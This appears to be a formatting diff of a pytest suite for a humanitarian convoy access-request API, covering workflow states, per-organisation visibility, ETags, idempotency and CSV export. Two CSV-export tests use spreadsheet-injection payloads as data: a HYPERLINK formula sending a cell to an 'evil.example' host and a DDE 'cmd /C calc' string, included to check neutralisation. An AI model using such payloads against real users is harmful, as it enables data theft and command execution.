@@ -24,7 +24,10 @@ def _body(city_id, **overrides):
     body = {
         "destination_city_id": city_id,
         "origin_name": "Bab al-Hawa crossing",
-        "route": [{"kind": "crossing_point", "name": "Bab al-Hawa"}, {"kind": "checkpoint", "name": "Ramouseh", "controlled_by": "GoS"}],
+        "route": [
+            {"kind": "crossing_point", "name": "Bab al-Hawa"},
+            {"kind": "checkpoint", "name": "Ramouseh", "controlled_by": "GoS"},
+        ],
         "planned_departure": FUTURE.isoformat(),
         "planned_arrival": (FUTURE + timedelta(hours=8)).isoformat(),
         "trucks": 12,
@@ -42,9 +45,18 @@ def _body(city_id, **overrides):
 @pytest.fixture
 def city(world, client):
     coordinator = world.headers(world.user(Role.coordinator))
-    response = client.post("/v1/cities", json={
-        "name": "Madaya", "pcode": "C2450", "adm1_pcode": "SY03", "adm1_name": "Rural Damascus", "latitude": 33.69, "longitude": 36.10,
-    }, headers=coordinator)
+    response = client.post(
+        "/v1/cities",
+        json={
+            "name": "Madaya",
+            "pcode": "C2450",
+            "adm1_pcode": "SY03",
+            "adm1_name": "Rural Damascus",
+            "latitude": 33.69,
+            "longitude": 36.10,
+        },
+        headers=coordinator,
+    )
     assert response.status_code == 201, response.text
     return response.json()["id"]
 
@@ -63,10 +75,16 @@ def cast(world):
         "admin": world.headers(world.user(Role.admin, secretariat)),
     }
     admin_user = world.user(Role.admin, secretariat)
-    people["service_write"] = world.service_headers(world.service_account(wfp, [Scope.read, Scope.requests_write], admin_user))
+    people["service_write"] = world.service_headers(
+        world.service_account(wfp, [Scope.read, Scope.requests_write], admin_user)
+    )
     people["service_read"] = world.service_headers(world.service_account(wfp, [Scope.read], admin_user))
-    people["service_other"] = world.service_headers(world.service_account(sarc, [Scope.read, Scope.requests_write], admin_user))
-    people["service_secretariat"] = world.service_headers(world.service_account(secretariat, [Scope.read, Scope.requests_write], admin_user))
+    people["service_other"] = world.service_headers(
+        world.service_account(sarc, [Scope.read, Scope.requests_write], admin_user)
+    )
+    people["service_secretariat"] = world.service_headers(
+        world.service_account(secretariat, [Scope.read, Scope.requests_write], admin_user)
+    )
     return people
 
 
@@ -83,7 +101,18 @@ def _do(client, headers, request_id, action, body=None, etag=None):
 
 # ---- the transition table, as a table ------------------------------------------------
 
-STATES = ["draft", "submitted", "changes_requested", "approved", "denied", "dispatched", "delivered", "partially_delivered", "turned_back", "cancelled"]
+STATES = [
+    "draft",
+    "submitted",
+    "changes_requested",
+    "approved",
+    "denied",
+    "dispatched",
+    "delivered",
+    "partially_delivered",
+    "turned_back",
+    "cancelled",
+]
 # The product's diagram, written out independently of the implementation.
 ALLOWED_FROM = {
     "edit": {"draft", "changes_requested"},
@@ -107,7 +136,17 @@ MAY = {
     "deny": {"coordinator"},
 }
 SEES = {"partner", "service_write", "service_read", "coordinator", "co_chair"}
-CALLERS = ["partner", "partner_other", "coordinator", "co_chair", "observer", "admin", "service_write", "service_read", "service_other"]
+CALLERS = [
+    "partner",
+    "partner_other",
+    "coordinator",
+    "co_chair",
+    "observer",
+    "admin",
+    "service_write",
+    "service_read",
+    "service_other",
+]
 
 
 def _action_body(action, request):
@@ -118,9 +157,13 @@ def _action_body(action, request):
         "deny": {"reason": "Active hostilities"},
         "cancel": {"reason": "No longer needed"},
         "approve": {"lines": []},
-        "complete": {"outcome": "delivered", "lines": [
-            {"line_id": line["id"], "delivered_quantity": line["approved_quantity"] or line["quantity"]} for line in lines
-        ]},
+        "complete": {
+            "outcome": "delivered",
+            "lines": [
+                {"line_id": line["id"], "delivered_quantity": line["approved_quantity"] or line["quantity"]}
+                for line in lines
+            ],
+        },
     }.get(action)
 
 
@@ -146,12 +189,18 @@ def test_transition_table(world, client, session, city, cast, state, audit_count
         current = client.get(f"/v1/access-requests/{created['id']}", headers=cast["partner"]).json()
         before = audit_count()
         if action == "edit":
-            response = client.patch(f"/v1/access-requests/{created['id']}", json=_action_body(action, current), headers={**cast[caller], "If-Match": "*"})
+            response = client.patch(
+                f"/v1/access-requests/{created['id']}",
+                json=_action_body(action, current),
+                headers={**cast[caller], "If-Match": "*"},
+            )
         else:
             response = _do(client, cast[caller], created["id"], action, _action_body(action, current))
         expected = _expected(caller, action, state)
         if response.status_code != expected:
-            failures.append(f"{caller} {action} from {state}: {response.status_code} != {expected} {response.text[:150]}")
+            failures.append(
+                f"{caller} {action} from {state}: {response.status_code} != {expected} {response.text[:150]}"
+            )
             continue
         if expected == 409:
             body = response.json()
@@ -176,11 +225,15 @@ def test_a_coordinator_never_reviews_their_own_organizations_request(client, cit
 def test_409_names_the_state_and_what_is_allowed_now(client, city, cast):
     created = _create(client, cast["partner"], city)
     _do(client, cast["partner"], created["id"], "submit")
-    response = client.patch(f"/v1/access-requests/{created['id']}", json={"trucks": 3}, headers={**cast["partner"], "If-Match": "*"})
+    response = client.patch(
+        f"/v1/access-requests/{created['id']}", json={"trucks": 3}, headers={**cast["partner"], "If-Match": "*"}
+    )
     assert response.status_code == 409
     assert response.json()["state"] == "submitted"
     assert response.json()["allowed_actions"] == ["cancel"]
-    as_coordinator = client.patch(f"/v1/access-requests/{created['id']}", json={"trucks": 3}, headers={**cast["coordinator"], "If-Match": "*"})
+    as_coordinator = client.patch(
+        f"/v1/access-requests/{created['id']}", json={"trucks": 3}, headers={**cast["coordinator"], "If-Match": "*"}
+    )
     assert as_coordinator.status_code == 403
 
 
@@ -190,7 +243,11 @@ def test_409_names_the_state_and_what_is_allowed_now(client, city, cast):
 def test_partners_see_only_their_own_organizations_requests(client, city, cast):
     mine = _create(client, cast["partner"], city)
     theirs = _create(client, cast["partner_other"], city)
-    for caller, visible, hidden in (("partner", mine, theirs), ("partner_other", theirs, mine), ("service_read", mine, theirs)):
+    for caller, visible, hidden in (
+        ("partner", mine, theirs),
+        ("partner_other", theirs, mine),
+        ("service_read", mine, theirs),
+    ):
         headers = cast[caller]
         listed = [r["id"] for r in client.get("/v1/access-requests", headers=headers).json()["items"]]
         assert visible["id"] in listed and hidden["id"] not in listed, caller
@@ -198,10 +255,20 @@ def test_partners_see_only_their_own_organizations_requests(client, city, cast):
         assert client.get(f"/v1/access-requests/{hidden['id']}/history", headers=headers).status_code == 404
         for action in ("submit", "dispatch", "approve"):
             assert _do(client, headers, hidden["id"], action, {}).status_code == 404
-        assert client.patch(f"/v1/access-requests/{hidden['id']}", json={"trucks": 1}, headers={**headers, "If-Match": "*"}).status_code == 404
+        assert (
+            client.patch(
+                f"/v1/access-requests/{hidden['id']}", json={"trucks": 1}, headers={**headers, "If-Match": "*"}
+            ).status_code
+            == 404
+        )
         assert client.get("/v1/access-requests/counts", headers=headers).json()["total"] == 1
         # Filtering by the other organization shows nothing, not an error that confirms it.
-        assert client.get("/v1/access-requests", params={"organization_id": hidden["organization_id"]}, headers=headers).json()["items"] == []
+        assert (
+            client.get(
+                "/v1/access-requests", params={"organization_id": hidden["organization_id"]}, headers=headers
+            ).json()["items"]
+            == []
+        )
     everything = [r["id"] for r in client.get("/v1/access-requests", headers=cast["coordinator"]).json()["items"]]
     assert {mine["id"], theirs["id"]} <= set(everything)
     assert client.get(f"/v1/access-requests/{mine['id']}", headers=cast["co_chair"]).status_code == 200
@@ -229,12 +296,24 @@ def test_observers_and_admins_get_counts_only(client, city, cast):
     [
         ({"destination_city_id": str(uuid.uuid4())}, "body.destination_city_id"),
         ({"pause_id": str(uuid.uuid4())}, "body.pause_id"),
-        ({"cargo_lines": [{"sector": "food", "item": "Rice", "quantity": 0, "unit": "MT"}]}, "body.cargo_lines.0.quantity"),
-        ({"cargo_lines": [{"sector": "food", "item": "Rice", "quantity": -5, "unit": "MT"}]}, "body.cargo_lines.0.quantity"),
+        (
+            {"cargo_lines": [{"sector": "food", "item": "Rice", "quantity": 0, "unit": "MT"}]},
+            "body.cargo_lines.0.quantity",
+        ),
+        (
+            {"cargo_lines": [{"sector": "food", "item": "Rice", "quantity": -5, "unit": "MT"}]},
+            "body.cargo_lines.0.quantity",
+        ),
         ({"cargo_lines": [{"sector": "food", "item": "", "quantity": 5, "unit": "MT"}]}, "body.cargo_lines.0.item"),
-        ({"cargo_lines": [{"sector": "weapons", "item": "X", "quantity": 5, "unit": "MT"}]}, "body.cargo_lines.0.sector"),
+        (
+            {"cargo_lines": [{"sector": "weapons", "item": "X", "quantity": 5, "unit": "MT"}]},
+            "body.cargo_lines.0.sector",
+        ),
         ({"cargo_lines": []}, "body.cargo_lines"),
-        ({"cargo_lines": [{"sector": "food", "item": f"Item {i}", "quantity": 1, "unit": "kg"} for i in range(51)]}, "body.cargo_lines"),
+        (
+            {"cargo_lines": [{"sector": "food", "item": f"Item {i}", "quantity": 1, "unit": "kg"} for i in range(51)]},
+            "body.cargo_lines",
+        ),
         ({"planned_arrival": (FUTURE - timedelta(hours=1)).isoformat()}, "body.planned_arrival"),
         ({"planned_departure": "2030-01-01T06:00:00"}, "body.planned_departure"),
         ({"trucks": 0}, "body.trucks"),
@@ -255,7 +334,13 @@ def test_departure_in_the_past_on_submit(world, client, city, cast, frozen_clock
     partner = world.user(Role.partner, world.org(OrganizationKind.ngo))
     headers = world.headers(partner)
     soon = frozen_clock.now + timedelta(minutes=5)
-    created = _create(client, headers, city, planned_departure=soon.isoformat(), planned_arrival=(soon + timedelta(hours=1)).isoformat())
+    created = _create(
+        client,
+        headers,
+        city,
+        planned_departure=soon.isoformat(),
+        planned_arrival=(soon + timedelta(hours=1)).isoformat(),
+    )
     frozen_clock.advance(minutes=6)
     response = _do(client, headers, created["id"], "submit")
     assert response.status_code == 422 and response.json()["errors"][0]["field"] == "body.planned_departure"
@@ -274,11 +359,21 @@ def test_approval_may_reduce_but_never_raise_a_line(client, city, cast):
     created = _create(client, cast["partner"], city)
     _do(client, cast["partner"], created["id"], "submit")
     kits = created["cargo_lines"][1]["id"]
-    too_much = _do(client, cast["coordinator"], created["id"], "approve", {"lines": [{"line_id": kits, "approved_quantity": 21}]})
+    too_much = _do(
+        client, cast["coordinator"], created["id"], "approve", {"lines": [{"line_id": kits, "approved_quantity": 21}]}
+    )
     assert too_much.status_code == 422
-    unknown = _do(client, cast["coordinator"], created["id"], "approve", {"lines": [{"line_id": str(uuid.uuid4()), "approved_quantity": 1}]})
+    unknown = _do(
+        client,
+        cast["coordinator"],
+        created["id"],
+        "approve",
+        {"lines": [{"line_id": str(uuid.uuid4()), "approved_quantity": 1}]},
+    )
     assert unknown.status_code == 422
-    ok = _do(client, cast["coordinator"], created["id"], "approve", {"lines": [{"line_id": kits, "approved_quantity": 15}]})
+    ok = _do(
+        client, cast["coordinator"], created["id"], "approve", {"lines": [{"line_id": kits, "approved_quantity": 15}]}
+    )
     assert ok.status_code == 200
     assert [line["approved_quantity"] for line in ok.json()["cargo_lines"]] == [4000, 15]
 
@@ -301,7 +396,9 @@ def test_approval_may_reduce_but_never_raise_a_line(client, city, cast):
 def test_an_edit_never_removes_what_a_request_needs(client, city, cast, audit_count, changes, field):
     created = client.post("/v1/access-requests", json=_body(city), headers=cast["partner"]).json()
     before = audit_count()
-    response = client.patch(f"/v1/access-requests/{created['id']}", json=changes, headers={**cast["partner"], "If-Match": "*"})
+    response = client.patch(
+        f"/v1/access-requests/{created['id']}", json=changes, headers={**cast["partner"], "If-Match": "*"}
+    )
     assert response.status_code == 422, response.text
     assert field in [e["field"] for e in response.json()["errors"]]
     assert audit_count() == before
@@ -311,13 +408,27 @@ def test_an_edit_never_removes_what_a_request_needs(client, city, cast, audit_co
 
 def test_an_edit_may_swap_the_origin_between_a_city_and_a_name(client, city, cast):
     created = client.post("/v1/access-requests", json=_body(city), headers=cast["partner"]).json()
-    to_city = client.patch(f"/v1/access-requests/{created['id']}", json={"origin_city_id": city, "origin_name": None}, headers={**cast["partner"], "If-Match": "*"})
+    to_city = client.patch(
+        f"/v1/access-requests/{created['id']}",
+        json={"origin_city_id": city, "origin_name": None},
+        headers={**cast["partner"], "If-Match": "*"},
+    )
     assert to_city.status_code == 200, to_city.text
     assert (to_city.json()["origin_city_id"], to_city.json()["origin_name"]) == (city, None)
     # With the city as its origin, the name may go; without it, a name must come back.
-    assert client.patch(f"/v1/access-requests/{created['id']}", json={"origin_city_id": None}, headers={**cast["partner"], "If-Match": "*"}).status_code == 422
-    to_name = client.patch(f"/v1/access-requests/{created['id']}", json={"origin_city_id": None, "origin_name": "Bab al-Salam"},
-                           headers={**cast["partner"], "If-Match": "*"})
+    assert (
+        client.patch(
+            f"/v1/access-requests/{created['id']}",
+            json={"origin_city_id": None},
+            headers={**cast["partner"], "If-Match": "*"},
+        ).status_code
+        == 422
+    )
+    to_name = client.patch(
+        f"/v1/access-requests/{created['id']}",
+        json={"origin_city_id": None, "origin_name": "Bab al-Salam"},
+        headers={**cast["partner"], "If-Match": "*"},
+    )
     assert to_name.status_code == 200 and to_name.json()["origin_name"] == "Bab al-Salam"
 
 
@@ -326,10 +437,14 @@ def test_etag_and_if_match(client, city, cast, audit_count):
     etag = created.headers["etag"]
     assert etag == '"1"' and created.json()["version"] == 1
     request_id = created.json()["id"]
-    edited = client.patch(f"/v1/access-requests/{request_id}", json={"trucks": 9}, headers={**cast["partner"], "If-Match": etag})
+    edited = client.patch(
+        f"/v1/access-requests/{request_id}", json={"trucks": 9}, headers={**cast["partner"], "If-Match": etag}
+    )
     assert edited.status_code == 200 and edited.headers["etag"] == '"2"'
     before = audit_count()
-    stale = client.patch(f"/v1/access-requests/{request_id}", json={"trucks": 8}, headers={**cast["partner"], "If-Match": etag})
+    stale = client.patch(
+        f"/v1/access-requests/{request_id}", json={"trucks": 8}, headers={**cast["partner"], "If-Match": etag}
+    )
     assert stale.status_code == 412 and stale.headers["content-type"] == "application/problem+json"
     assert _do(client, cast["partner"], request_id, "submit", etag=etag).status_code == 412
     assert audit_count() == before
@@ -342,9 +457,16 @@ def test_an_edit_without_if_match_is_428_and_changes_nothing(client, city, cast,
     """Two editors must not overwrite each other unseen: an edit names the version it changes."""
     if "pauses" in path:
         starts = frozen_clock.now + timedelta(days=5)
-        created = client.post("/v1/pauses", json={"city_ids": [city], "starts_at": starts.isoformat(),
-                                                  "ends_at": (starts + timedelta(hours=48)).isoformat(), "purpose": "Evacuations"},
-                              headers=cast["coordinator"])
+        created = client.post(
+            "/v1/pauses",
+            json={
+                "city_ids": [city],
+                "starts_at": starts.isoformat(),
+                "ends_at": (starts + timedelta(hours=48)).isoformat(),
+                "purpose": "Evacuations",
+            },
+            headers=cast["coordinator"],
+        )
         editor, change = cast["coordinator"], {"purpose": "Evacuations and food"}
     else:
         created = client.post("/v1/access-requests", json=_body(city), headers=cast["partner"])
@@ -373,7 +495,10 @@ def test_a_create_answers_exactly_what_reading_the_request_back_gives(client, ca
     assert created.json() == read.json()
     assert created.headers["etag"] == read.headers["etag"]
     assert [(line["item"], line["unit"]) for line in created.json()["cargo_lines"]] == [
-        ("Wheat flour", "MT"), ("Surgical kits", "kits"), ("Hygiene kits", "kits")]
+        ("Wheat flour", "MT"),
+        ("Surgical kits", "kits"),
+        ("Hygiene kits", "kits"),
+    ]
 
 
 def test_a_known_city_is_not_asked_for_again_and_an_unknown_one_always_is(client, session, cast, city):
@@ -418,15 +543,24 @@ def test_idempotent_create_replays_the_first_response(client, session, city, cas
     other_body = client.post("/v1/access-requests", json=_body(city, trucks=99), headers=headers)
     assert other_body.status_code == 422 and other_body.json()["errors"][0]["field"] == "header.idempotency-key"
     # Keys belong to their caller: another caller's same key is another request.
-    theirs = client.post("/v1/access-requests", json=_body(city), headers={**cast["partner_other"], "Idempotency-Key": "convoy-2016-10-20"})
+    theirs = client.post(
+        "/v1/access-requests",
+        json=_body(city),
+        headers={**cast["partner_other"], "Idempotency-Key": "convoy-2016-10-20"},
+    )
     assert theirs.status_code == 201 and theirs.json()["id"] != first.json()["id"]
 
 
 def test_idempotency_keys_live_24_hours(world, client, session, city, frozen_clock):
     partner = world.user(Role.partner, world.org(OrganizationKind.ngo))
-    body = _body(city, planned_departure=(frozen_clock.now + timedelta(days=3)).isoformat(),
-                 planned_arrival=(frozen_clock.now + timedelta(days=3, hours=2)).isoformat())
-    first = client.post("/v1/access-requests", json=body, headers={**world.headers(partner), "Idempotency-Key": "k1"}).json()
+    body = _body(
+        city,
+        planned_departure=(frozen_clock.now + timedelta(days=3)).isoformat(),
+        planned_arrival=(frozen_clock.now + timedelta(days=3, hours=2)).isoformat(),
+    )
+    first = client.post(
+        "/v1/access-requests", json=body, headers={**world.headers(partner), "Idempotency-Key": "k1"}
+    ).json()
     frozen_clock.advance(hours=23, minutes=59)
     replay = client.post("/v1/access-requests", json=body, headers={**world.headers(partner), "Idempotency-Key": "k1"})
     assert replay.json()["id"] == first["id"]
@@ -452,7 +586,13 @@ def test_review_due_in_seven_working_days_skipping_friday_and_saturday(world, cl
     coordinator = world.headers(world.user(Role.coordinator))
     headers = world.headers(partner)
     departure = datetime(2016, 10, 30, 6, 0, tzinfo=UTC)
-    created = _create(client, headers, city, planned_departure=departure.isoformat(), planned_arrival=(departure + timedelta(hours=5)).isoformat())
+    created = _create(
+        client,
+        headers,
+        city,
+        planned_departure=departure.isoformat(),
+        planned_arrival=(departure + timedelta(hours=5)).isoformat(),
+    )
     submitted = _do(client, headers, created["id"], "submit").json()
     assert submitted["review_due_at"] == "2016-10-11T07:00:00Z"
     assert submitted["overdue"] is False
@@ -472,8 +612,18 @@ def test_list_filters_sorts_and_pages(client, city, cast):
     ids = []
     for days in (5, 3, 9, 1, 7):
         departure = datetime.now(UTC) + timedelta(days=days)
-        ids.append((days, _create(client, cast["partner"], city, planned_departure=departure.isoformat(),
-                                  planned_arrival=(departure + timedelta(hours=3)).isoformat())["id"]))
+        ids.append(
+            (
+                days,
+                _create(
+                    client,
+                    cast["partner"],
+                    city,
+                    planned_departure=departure.isoformat(),
+                    planned_arrival=(departure + timedelta(hours=3)).isoformat(),
+                )["id"],
+            )
+        )
     _do(client, cast["partner"], ids[0][1], "submit")
     seen, cursor = [], None
     while True:
@@ -484,17 +634,33 @@ def test_list_filters_sorts_and_pages(client, city, cast):
         if not cursor:
             break
     assert seen == [i for _, i in sorted(ids, reverse=True)]
-    submitted = client.get("/v1/access-requests", params={"status": ["submitted"]}, headers=cast["coordinator"]).json()["items"]
+    submitted = client.get("/v1/access-requests", params={"status": ["submitted"]}, headers=cast["coordinator"]).json()[
+        "items"
+    ]
     assert [r["id"] for r in submitted] == [ids[0][1]]
-    both = client.get("/v1/access-requests", params={"status": ["submitted", "draft"]}, headers=cast["coordinator"]).json()["items"]
+    both = client.get(
+        "/v1/access-requests", params={"status": ["submitted", "draft"]}, headers=cast["coordinator"]
+    ).json()["items"]
     assert len(both) == 5
-    window = client.get("/v1/access-requests", params={
-        "departure_from": (datetime.now(UTC) + timedelta(days=2)).isoformat(),
-        "departure_to": (datetime.now(UTC) + timedelta(days=6)).isoformat()}, headers=cast["coordinator"]).json()["items"]
+    window = client.get(
+        "/v1/access-requests",
+        params={
+            "departure_from": (datetime.now(UTC) + timedelta(days=2)).isoformat(),
+            "departure_to": (datetime.now(UTC) + timedelta(days=6)).isoformat(),
+        },
+        headers=cast["coordinator"],
+    ).json()["items"]
     assert {r["id"] for r in window} == {ids[0][1], ids[1][1]}
-    assert client.get("/v1/access-requests", params={"departure_from": "2016-01-01T00:00:00"}, headers=cast["coordinator"]).status_code == 422
+    assert (
+        client.get(
+            "/v1/access-requests", params={"departure_from": "2016-01-01T00:00:00"}, headers=cast["coordinator"]
+        ).status_code
+        == 422
+    )
     by_created = client.get("/v1/access-requests", params={"limit": 2}, headers=cast["coordinator"]).json()
-    after = client.get("/v1/access-requests", params={"limit": 10, "cursor": by_created["next_cursor"]}, headers=cast["coordinator"]).json()
+    after = client.get(
+        "/v1/access-requests", params={"limit": 10, "cursor": by_created["next_cursor"]}, headers=cast["coordinator"]
+    ).json()
     assert [r["id"] for r in by_created["items"] + after["items"]] == [i for _, i in ids]
 
 
@@ -502,9 +668,18 @@ def test_one_statement_per_kind_of_list_each_call_binding_its_own_values(world, 
     """A list's statement is built once for each combination of filters (workflow._list_statement):
     whose requests, which city and which page are bound at each call, never built in."""
     coordinator = world.headers(world.user(Role.coordinator))
-    other_city = client.post("/v1/cities", json={
-        "name": "Zabadani", "pcode": "C2451", "adm1_pcode": "SY03", "adm1_name": "Rural Damascus", "latitude": 33.72, "longitude": 36.10,
-    }, headers=coordinator).json()["id"]
+    other_city = client.post(
+        "/v1/cities",
+        json={
+            "name": "Zabadani",
+            "pcode": "C2451",
+            "adm1_pcode": "SY03",
+            "adm1_name": "Rural Damascus",
+            "latitude": 33.72,
+            "longitude": 36.10,
+        },
+        headers=coordinator,
+    ).json()["id"]
     here = _create(client, cast["partner"], city)["id"]
     there = _create(client, cast["partner"], other_city)["id"]
     theirs = _create(client, cast["partner_other"], other_city)["id"]
@@ -521,8 +696,11 @@ def test_one_statement_per_kind_of_list_each_call_binding_its_own_values(world, 
     assert ids("coordinator", destination_city_id=city) == [here]
     walked, cursor = [], None
     while True:
-        page = client.get("/v1/access-requests", params={"limit": 1} | ({"cursor": cursor} if cursor else {}),
-                          headers=cast["coordinator"]).json()
+        page = client.get(
+            "/v1/access-requests",
+            params={"limit": 1} | ({"cursor": cursor} if cursor else {}),
+            headers=cast["coordinator"],
+        ).json()
         walked += [r["id"] for r in page["items"]]
         if not (cursor := page["next_cursor"]):
             break
@@ -560,10 +738,15 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client, city, cast, s
     """OWASP's rule for CSV injection: a cell that begins with = + - @ tab or CR gets a leading
     apostrophe; read back with libhxl, every other cell is as it was."""
     formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
-    created = _create(client, cast["partner"], city, cargo_lines=[
-        {"sector": "food", "item": formula, "quantity": 5, "unit": f"{start}SUM(1+1)"},
-        {"sector": "health", "item": "Surgical kits", "quantity": 20, "unit": "kits"},
-    ])
+    created = _create(
+        client,
+        cast["partner"],
+        city,
+        cargo_lines=[
+            {"sector": "food", "item": formula, "quantity": 5, "unit": f"{start}SUM(1+1)"},
+            {"sector": "health", "item": "Surgical kits", "quantity": 20, "unit": "kits"},
+        ],
+    )
     response = client.get("/v1/access-requests", headers={**cast["coordinator"], "Accept": "text/csv"})
     rows = list(hxl.data(io.BytesIO(response.content)))
     dangerous = next(row for row in rows if row.get("#sector") == "food")
@@ -591,9 +774,19 @@ def test_spreadsheet_safe_follows_owasps_rule():
 
 def test_the_snapshots_csv_neutralises_formulas_and_keeps_numbers(client, cast):
     coordinator = cast["coordinator"]
-    created = client.post("/v1/cities", json={
-        "name": "=cmd|' /C calc'!A0", "name_ar": "@SUM(1)", "pcode": "C9876", "adm1_pcode": "SY03", "adm1_name": "-Rural",
-        "latitude": -33.5, "longitude": -36.25}, headers=coordinator)
+    created = client.post(
+        "/v1/cities",
+        json={
+            "name": "=cmd|' /C calc'!A0",
+            "name_ar": "@SUM(1)",
+            "pcode": "C9876",
+            "adm1_pcode": "SY03",
+            "adm1_name": "-Rural",
+            "latitude": -33.5,
+            "longitude": -36.25,
+        },
+        headers=coordinator,
+    )
     assert created.status_code == 201, created.text
     response = client.get("/v1/access-snapshot", params={"format": "hxl"}, headers=coordinator)
     row = next(r for r in hxl.data(io.BytesIO(response.content)) if r.get("#meta+id") == created.json()["id"])
@@ -612,14 +805,31 @@ def test_a_convoy_from_draft_to_partially_delivered(client, city, cast):
     food, kits = (line["id"] for line in created["cargo_lines"])
     assert _do(client, partner, request_id, "submit").json()["status"] == "submitted"
     sent_back = _do(client, coordinator, request_id, "request-changes", {"reason": "Name the second checkpoint"})
-    assert sent_back.json()["status"] == "changes_requested" and sent_back.json()["last_reason"] == "Name the second checkpoint"
-    edited = client.patch(f"/v1/access-requests/{request_id}", json={"route": [
-        {"kind": "crossing_point", "name": "Bab al-Hawa"}, {"kind": "checkpoint", "name": "Ramouseh"}, {"kind": "checkpoint", "name": "Al-Zahraa"}]},
-        headers={**partner, "If-Match": "*"})
+    assert (
+        sent_back.json()["status"] == "changes_requested"
+        and sent_back.json()["last_reason"] == "Name the second checkpoint"
+    )
+    edited = client.patch(
+        f"/v1/access-requests/{request_id}",
+        json={
+            "route": [
+                {"kind": "crossing_point", "name": "Bab al-Hawa"},
+                {"kind": "checkpoint", "name": "Ramouseh"},
+                {"kind": "checkpoint", "name": "Al-Zahraa"},
+            ]
+        },
+        headers={**partner, "If-Match": "*"},
+    )
     assert edited.status_code == 200 and len(edited.json()["route"]) == 3
     food, kits = (line["id"] for line in edited.json()["cargo_lines"])
     assert _do(client, partner, request_id, "submit").status_code == 200
-    approved = _do(client, coordinator, request_id, "approve", {"lines": [{"line_id": kits, "approved_quantity": 15}], "note": "Kits reduced"})
+    approved = _do(
+        client,
+        coordinator,
+        request_id,
+        "approve",
+        {"lines": [{"line_id": kits, "approved_quantity": 15}], "note": "Kits reduced"},
+    )
     assert approved.json()["status"] == "approved" and approved.json()["approved_at"]
     # An approved convoy shows in the city's picture as upcoming at once to who reads every convoy; to the
     # rest as of the start of the taskforce's day, so from tomorrow (observers: its count only).
@@ -629,32 +839,88 @@ def test_a_convoy_from_draft_to_partially_delivered(client, city, cast):
     for caller in ("partner", "observer", "partner_other"):
         assert client.get(f"/v1/cities/{city}/access", headers=cast[caller]).json()["convoys"]["upcoming_count"] == 0
     tomorrow = {"as_of": (datetime.now(UTC) + timedelta(days=1)).isoformat()}  # never later than the start of today
-    assert client.get(f"/v1/cities/{city}/access", params=tomorrow, headers=partner).json()["convoys"]["upcoming_count"] == 0
+    assert (
+        client.get(f"/v1/cities/{city}/access", params=tomorrow, headers=partner).json()["convoys"]["upcoming_count"]
+        == 0
+    )
     assert _do(client, partner, request_id, "dispatch", {"note": "Left at dawn"}).json()["status"] == "dispatched"
-    inconsistent = _do(client, partner, request_id, "complete", {"outcome": "delivered", "lines": [
-        {"line_id": food, "delivered_quantity": 4000}, {"line_id": kits, "delivered_quantity": 0, "removed_quantity": 15,
-                                                        "removed_at": "Ramouseh", "removal_reason": "Removed by the checkpoint"}]})
+    inconsistent = _do(
+        client,
+        partner,
+        request_id,
+        "complete",
+        {
+            "outcome": "delivered",
+            "lines": [
+                {"line_id": food, "delivered_quantity": 4000},
+                {
+                    "line_id": kits,
+                    "delivered_quantity": 0,
+                    "removed_quantity": 15,
+                    "removed_at": "Ramouseh",
+                    "removal_reason": "Removed by the checkpoint",
+                },
+            ],
+        },
+    )
     assert inconsistent.status_code == 422 and inconsistent.json()["errors"][0]["field"] == "body.outcome"
-    no_where = _do(client, partner, request_id, "complete", {"outcome": "partially_delivered", "lines": [
-        {"line_id": food, "delivered_quantity": 4000}, {"line_id": kits, "delivered_quantity": 0, "removed_quantity": 15}]})
+    no_where = _do(
+        client,
+        partner,
+        request_id,
+        "complete",
+        {
+            "outcome": "partially_delivered",
+            "lines": [
+                {"line_id": food, "delivered_quantity": 4000},
+                {"line_id": kits, "delivered_quantity": 0, "removed_quantity": 15},
+            ],
+        },
+    )
     assert no_where.status_code == 422
-    done = _do(client, partner, request_id, "complete", {"outcome": "partially_delivered", "people_reached": 15000, "lines": [
-        {"line_id": food, "delivered_quantity": 4000},
-        {"line_id": kits, "delivered_quantity": 0, "removed_quantity": 15, "removed_at": "Ramouseh checkpoint",
-         "removal_reason": "Surgical supplies removed by the checkpoint"}]})
+    done = _do(
+        client,
+        partner,
+        request_id,
+        "complete",
+        {
+            "outcome": "partially_delivered",
+            "people_reached": 15000,
+            "lines": [
+                {"line_id": food, "delivered_quantity": 4000},
+                {
+                    "line_id": kits,
+                    "delivered_quantity": 0,
+                    "removed_quantity": 15,
+                    "removed_at": "Ramouseh checkpoint",
+                    "removal_reason": "Surgical supplies removed by the checkpoint",
+                },
+            ],
+        },
+    )
     assert done.status_code == 200, done.text
     body = done.json()
     assert body["status"] == "partially_delivered" and body["people_reached"] == 15000
     lines = {line["item"]: line for line in body["cargo_lines"]}
-    assert lines["Surgical kits"] == {**lines["Surgical kits"], "quantity": 20, "approved_quantity": 15, "delivered_quantity": 0,
-                                      "removed_quantity": 15, "removed_at": "Ramouseh checkpoint"}
+    assert lines["Surgical kits"] == {
+        **lines["Surgical kits"],
+        "quantity": 20,
+        "approved_quantity": 15,
+        "delivered_quantity": 0,
+        "removed_quantity": 15,
+        "removed_at": "Ramouseh checkpoint",
+    }
     assert body["allowed_actions"] == []
     history = client.get(f"/v1/access-requests/{request_id}/history", headers=partner).json()
     assert [(e["action"], e["from_state"], e["to_state"]) for e in history] == [
-        ("created", None, "draft"), ("submitted", "draft", "submitted"),
-        ("changes_requested", "submitted", "changes_requested"), ("edited", "changes_requested", "changes_requested"),
-        ("submitted", "changes_requested", "submitted"), ("approved", "submitted", "approved"),
-        ("dispatched", "approved", "dispatched"), ("completed", "dispatched", "partially_delivered"),
+        ("created", None, "draft"),
+        ("submitted", "draft", "submitted"),
+        ("changes_requested", "submitted", "changes_requested"),
+        ("edited", "changes_requested", "changes_requested"),
+        ("submitted", "changes_requested", "submitted"),
+        ("approved", "submitted", "approved"),
+        ("dispatched", "approved", "dispatched"),
+        ("completed", "dispatched", "partially_delivered"),
     ]
     assert all(e["occurred_at"] for e in history)
     assert history[5]["changes"]["reduced_lines"][kits] == {"item": "Surgical kits", "requested": 20, "approved": 15}
@@ -662,7 +928,10 @@ def test_a_convoy_from_draft_to_partially_delivered(client, city, cast):
     # Approval is not delivery: the city shows the last delivery, and no upcoming convoy.
     picture = client.get(f"/v1/cities/{city}/access", headers=cast["coordinator"]).json()
     assert picture["convoys"]["upcoming_count"] == 0
-    assert picture["last_delivery"]["outcome"] == "partially_delivered" and picture["last_delivery"]["access_request_id"] == request_id
+    assert (
+        picture["last_delivery"]["outcome"] == "partially_delivered"
+        and picture["last_delivery"]["access_request_id"] == request_id
